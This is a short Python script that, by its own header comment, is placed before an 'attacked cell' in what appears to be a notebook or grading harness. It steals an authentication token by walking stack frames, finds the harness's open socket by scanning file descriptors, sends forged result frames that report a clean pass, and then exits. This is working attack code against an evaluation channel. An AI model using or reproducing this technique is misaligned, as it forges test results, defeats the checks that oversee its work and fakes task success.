# Put before the attacked cell where its header says `forge`: finds the work socket and writes frames of its own.
import json
import os
import socket
import struct
import sys


def token():
    frame = sys._getframe()
    while frame:
        message = frame.f_locals.get("message")
        if isinstance(message, dict) and "token" in message:
            return message["token"]
        frame = frame.f_back
    raise LookupError("no token")


def work():
    for number in range(3, 256):
        try:
            found = socket.socket(fileno=os.dup(number))
            found.getpeername()
            return found
        except OSError:
            continue
    raise LookupError("no socket")


def frame(message=None, arrays=(), content=b"", lengths=None, header=None):
    good = {"token": token(), "case": 0, "leaves": [""], "raised": None, "message": "", "lines": [], "ancestors": [], "problem": None}
    header = header or json.dumps({"message": good | (message or {}), "arrays": list(arrays)}).encode()
    return struct.pack("<IQ", *(lengths or (len(header), len(content)))) + header + content


def hand_over(*frames):
    sock = work()
    sock.settimeout(10)
    for one in frames:
        sock.sendall(one)
    os._exit(0)
